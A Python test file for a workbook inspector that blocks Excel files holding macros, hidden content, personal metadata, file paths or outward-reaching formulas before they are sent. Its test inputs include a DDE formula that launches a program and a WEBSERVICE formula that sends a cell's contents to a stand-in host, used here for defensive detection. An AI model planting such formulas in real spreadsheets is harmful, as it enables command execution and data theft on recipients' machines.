from collections.abc import Callable
from functools import cache
from html import escape
from io import BytesIO
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl.comments import Comment

from clv_xl.delivery.audience import Detail
from clv_xl.delivery.inspection import InspectionError, inspect
from clv_xl.delivery.planned import Planned
from clv_xl.errors import SourceError
from clv_xl.excel.workbench.write import write_workbench
from clv_xl.workbooks.freeze import freeze
from clv_xl.workbooks.package import Package
from tests.delivery.shops import orders_of, shop

CORE, APP, BOOK = "docProps/core.xml", "docProps/app.xml", "xl/workbook.xml"
SHEET, TEXTS, STYLES = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/styles.xml"
OFFICE = "application/vnd.openxmlformats-officedocument."
EXCEL = "application/vnd.ms-excel."
Change = Callable[[Package], None]


@cache
def clean() -> bytes:
    return shop(orders_of("web", "QW", 12)).attachment("web", detail=Detail.MASKED).data


def exchanged(part: str, before: str, after: str) -> Change:
    """Return a change of the first such text in a part."""

    def change(package: Package) -> None:
        text = package.text(part)
        assert before in text
        package.put(part, text.replace(before, after, 1))

    return change


def added(part: str, content_type: str, kind: str, owner: str = BOOK) -> Change:
    """Return the addition of a part that another one refers to."""

    def change(package: Package) -> None:
        package.add(part, "<x/>", content_type)
        package.relate(owner, kind, part)

    return change


def linked(owner: str, kind: str, target: str) -> Change:
    """Return the addition of a link to something outside."""

    def change(package: Package) -> None:
        package.relate(owner, kind, "xl/nothing.xml")
        listing = owner.replace("xl/", "xl/_rels/", 1) + ".rels"
        if "worksheets" in owner:
            listing = "xl/worksheets/_rels/sheet1.xml.rels"
        text = package.text(listing)
        there = next(r.target for r in package.relations(owner) if "nothing" in r.target)
        assert there == "xl/nothing.xml"
        start = text.rindex('Target="')
        end = text.index('"', start + 8)
        package.put(listing, f'{text[:start]}Target="{target}" TargetMode="External{text[end:]}')

    return change


def formula(text: str) -> Change:
    """Return a change of the first formula of the dashboard."""

    def change(package: Package) -> None:
        xml = package.text(SHEET)
        begin = xml.index("<f>") + 3
        package.put(SHEET, xml[:begin] + text + xml[xml.index("</f>", begin) :])

    return change


CHANGES: dict[str, tuple[Change, str]] = {
    "macros": (
        added("xl/vbaProject.bin", "application/vnd.ms-office.vbaProject", "vbaProject"),
        "xl/vbaProject.bin holds macros",
    ),
    "old macros": (
        added("xl/macrosheets/sheet1.xml", f"{EXCEL}macrosheet+xml", "xlMacrosheet"),
        "macrosheets/sheet1.xml holds macros",
    ),
    "a workbook with macros": (
        exchanged("[Content_Types].xml", f"{OFFICE}spreadsheetml.sheet.main+xml",
                  f"{EXCEL}sheet.macroEnabled.main+xml"),
        "xl/workbook.xml is of a workbook with macros",
    ),
    "a control": (
        added("xl/ctrlProps/ctrlProp1.xml", f"{EXCEL}controlproperties+xml", "ctrlProp", SHEET),
        "ctrlProp1.xml is a control",
    ),
    "a link to a workbook": (
        added("xl/externalLinks/externalLink1.xml",
              f"{OFFICE}spreadsheetml.externalLink+xml", "externalLink"),
        "externalLink1.xml is a link to another workbook",
    ),
    "a connection": (
        added("xl/connections.xml", f"{OFFICE}spreadsheetml.connections+xml", "connections"),
        "xl/connections.xml is a data connection",
    ),
    "a query": (
        added("xl/queryTables/q1.xml", f"{OFFICE}spreadsheetml.queryTable+xml", "queryTable",
              "xl/tables/table1.xml"),
        "q1.xml is a query",
    ),
    "comments": (
        added("xl/comments1.xml", f"{OFFICE}spreadsheetml.comments+xml", "comments", SHEET),
        "xl/comments1.xml holds comments",
    ),
    "comments in threads": (
        added("xl/threadedComments/t1.xml", f"{EXCEL}threadedcomments+xml", "threadedComment",
              SHEET),
        "t1.xml holds comments",
    ),
    "persons": (
        added("xl/persons/person.xml", f"{EXCEL}person+xml", "person"),
        "person.xml names persons",
    ),
    "custom XML": (
        added("customXml/item1.xml", "application/xml", "customXml"),
        "customXml/item1.xml is custom XML",
    ),
    "a data model": (
        added("xl/model/item.data", "application/octet-stream", "powerPivotData"),
        "xl/model/item.data is a data model",
    ),
    "the rows behind a pivot": (
        added("xl/pivotCache/pivotCacheDefinition1.xml",
              f"{OFFICE}spreadsheetml.pivotCacheDefinition+xml", "pivotCacheDefinition"),
        "keeps the rows behind a pivot table",
    ),
    "custom properties": (
        added("docProps/custom.xml", f"{OFFICE}custom-properties+xml", "custom-properties"),
        "docProps/custom.xml holds custom properties",
    ),
    "a printer": (
        added("xl/printerSettings/p1.bin", f"{OFFICE}spreadsheetml.printerSettings",
              "printerSettings", SHEET),
        "p1.bin names a printer",
    ),
    "an embedded file": (
        added("xl/embeddings/oleObject1.bin", f"{OFFICE}oleObject", "oleObject", SHEET),
        "oleObject1.bin is an embedded file",
    ),
    "a part of another kind": (
        added("xl/surprise.xml", "application/x-surprise", "surprise"),
        "xl/surprise.xml is of an unknown kind",
    ),
    "a part that nothing refers to": (
        lambda package: package.add("xl/left.xml", "<x/>", f"{OFFICE}spreadsheetml.table+xml"),
        "xl/left.xml is a part that nothing refers to",
    ),
    "a link to a file": (
        linked(SHEET, "hyperlink", "orders%20of%20Ann.xlsx"),
        "sheet1.xml links to orders%20of%20Ann.xlsx",
    ),
    "a picture from the network": (
        linked(SHEET, "image", "https://x.lv/seen.png"),
        "links to https://x.lv/seen.png",
    ),
    "a hidden sheet": (
        exchanged(BOOK, '<sheet name="Data"', '<sheet state="hidden" name="Data"'),
        "the sheet Data is hidden",
    ),
    "a very hidden sheet": (
        exchanged(BOOK, '<sheet name="Data"', '<sheet state="veryHidden" name="Data"'),
        "the sheet Data is very hidden",
    ),
    "a hidden row": (
        exchanged(SHEET, '<row r="4"', '<row hidden="1" r="4"'),
        "row 4 of the sheet Dashboard is hidden",
    ),
    "a hidden column": (
        exchanged(SHEET, '<col min="2"', '<col hidden="true" min="2"'),
        "column 2 of the sheet Dashboard is hidden",
    ),
    "a hidden name": (
        exchanged(BOOK, "<definedNames>",
                  '<definedNames><definedName name="secret" hidden="1">1</definedName>'),
        "the name secret is hidden",
    ),
    "an author": (
        exchanged(CORE, "<dc:creator></dc:creator>", "<dc:creator>Ann &amp; Co</dc:creator>"),
        "docProps/core.xml says Ann & Co as creator",
    ),
    "a company": (
        exchanged(APP, "</Properties>", "<Company>House</Company></Properties>"),
        "docProps/app.xml says House as Company",
    ),
    "who has it open": (
        exchanged(BOOK, "<workbookPr", '<fileSharing userName="ann"/><workbookPr'),
        "xl/workbook.xml names ann",
    ),
    "where it lay": (
        exchanged(BOOK, "<workbookPr", '<x15ac:absPath url="Z:/house"/><workbookPr'),
        "xl/workbook.xml names Z:/house",
    ),
    "a path of Windows": (
        exchanged(TEXTS, "<si><t>", "<si><t>C:\\Users\\ann\\orders "),
        r"holds the path C:\Users\ann\orders",
    ),
    "a path in numbers": (
        exchanged(TEXTS, "<si><t>", "<si><t>C&#58;&#x5c;ann&#x26;co"),
        r"holds the path C:\ann&co",
    ),
    "a path of a network": (
        exchanged(TEXTS, "<si><t>", "<si><t>see \\\\server\\share\\x "),
        r"holds the path \\server\share\x",
    ),
    "a path of Unix": (
        exchanged(TEXTS, "<si><t>", "<si><t>/Users/ann/orders "),
        "holds the path /Users/ann/orders",
    ),
    "an input file": (
        exchanged(TEXTS, "<si><t>", "<si><t>from Orders &amp; Co.CSV "),
        "names the file orders & co.csv",
    ),
    "an input file in a style": (
        exchanged(STYLES, "</styleSheet>", "<x>orders &amp; co.csv</x></styleSheet>"),
        "xl/styles.xml names the file orders & co.csv",
    ),
    "a function of ours": (
        formula("1+CLV_SIMPLE(1,2,3)"),
        "has a formula that reaches outside: 1+CLV_SIMPLE",
    ),
    "another workbook": (formula("'[1]Orders'!A1"), "reaches outside: '[1]Orders'!A1"),
    "the network": (
        formula('WEBSERVICE("https://x.lv/"&amp;A1)'),
        'reaches outside: WEBSERVICE("https://x.lv/"&A1)',
    ),
    "a link that tells who clicks": (formula('HYPERLINK("https://x.lv")'), "HYPERLINK"),
    "another program": (formula("cmd|' /C calc'!A0"), "cmd|' /C calc'!A0"),
    "a rule that reaches outside": (
        exchanged(SHEET, "</sheetData>",
                  '</sheetData><conditionalFormatting sqref="A1"><cfRule type="expression" '
                  'priority="9"><formula>CLV_SIMPLE(1,2,3)</formula></cfRule>'
                  "</conditionalFormatting>"),
        "xl/worksheets/sheet1.xml has a formula that reaches outside",
    ),
    "a name that reaches outside": (
        exchanged(BOOK, "<definedNames>",
                  '<definedNames><definedName name="x">[1]Sheet!$A$1</definedName>'),
        "xl/workbook.xml has a formula that reaches outside",
    ),
}  # fmt: skip


def changed(change: Change) -> bytes:
    package = Package(clean(), "the clean one")
    change(package)
    target = BytesIO()
    package.write(target)
    return target.getvalue()


def test_a_workbook_of_ours_is_clean() -> None:
    inspect(clean(), "web", input_files=["orders & co.csv"])


@pytest.mark.parametrize("what", CHANGES)
def test_what_must_not_leave_is_found(what: str) -> None:
    change, said = CHANGES[what]

    with pytest.raises(InspectionError) as caught:
        inspect(changed(change), "web", input_files=["orders & co.csv"])

    assert str(caught.value).startswith("the workbook for web is not sent: ")
    assert said in str(caught.value)


@pytest.mark.parametrize(
    ("what", "name"),
    [
        ("a hidden sheet", "Data"),
        ("a hidden name", "secret"),
        ("an author", "Ann & Co"),
        ("comments", "xl/comments1.xml"),
        ("a picture from the network", "https://x.lv/seen.png"),
        ("an input file", "orders & co.csv"),
    ],
)
def test_what_was_planned_may_leave(what: str, name: str) -> None:
    data = changed(CHANGES[what][0])

    inspect(data, "web", Planned(allowed=frozenset({name})), ["orders & co.csv"])
    with pytest.raises(InspectionError):
        inspect(data, "web", Planned(allowed=frozenset({"other"})), ["orders & co.csv"])


def test_the_cell_is_named() -> None:
    with pytest.raises(InspectionError) as caught:
        inspect(changed(formula("CLV_SIMPLE(1,2,3)")), "web")
    (found,) = caught.value.findings
    book = openpyxl.load_workbook(BytesIO(changed(formula("CLV_SIMPLE(1,2,3)"))))
    sheet, _, cell = found.where.partition("!")

    assert book[sheet][cell].value == "=CLV_SIMPLE(1,2,3)"


def test_the_cell_of_a_shared_text_is_named() -> None:
    data = changed(CHANGES["a path of Unix"][0])
    with pytest.raises(InspectionError) as caught:
        inspect(data, "web")
    (found,) = caught.value.findings
    sheet, _, cell = found.where.partition("!")

    assert str(openpyxl.load_workbook(BytesIO(data))[sheet][cell].value).startswith("/Users/ann")


def test_a_workbook_that_a_person_made_is_looked_through_alike() -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet["B2"] = "=1+1"
    sheet["B2"].comment = Comment("call her", "Ann")
    sheet["B3"].hyperlink = "https://x.lv/"
    book.create_sheet("Lists").sheet_state = "veryHidden"
    target = BytesIO()
    book.save(target)

    with pytest.raises(InspectionError) as caught:
        inspect(target.getvalue(), "web")

    said = str(caught.value)
    for part in ("holds comments", "Lists is very hidden", "links to https://x.lv/", "openpyxl"):
        assert part in said


def test_a_frozen_copy_of_a_workbook_with_functions_of_ours_is_clean(tmp_path: Path) -> None:
    path = tmp_path / "workbench.xlsx"
    write_workbench(path)
    with pytest.raises(InspectionError, match="CLV_"):
        inspect(path.read_bytes(), "everybody")

    frozen = freeze(path.read_bytes(), path.name)

    inspect(frozen.data, "everybody", input_files=[path.name])


def test_what_is_no_workbook_is_said() -> None:
    with pytest.raises(SourceError):
        inspect(b"no workbook", "web")


_quiet = st.text(st.characters(blacklist_categories=("Cs", "Cc")), min_size=1, max_size=40).filter(
    lambda text: not any(sign in text for sign in "\\/:")
)


@given(_quiet)
def test_a_text_without_separators_is_no_path(text: str) -> None:
    inspect(changed(exchanged(TEXTS, "<si><t>", f"<si><t>{escape(text)} ")), "web")
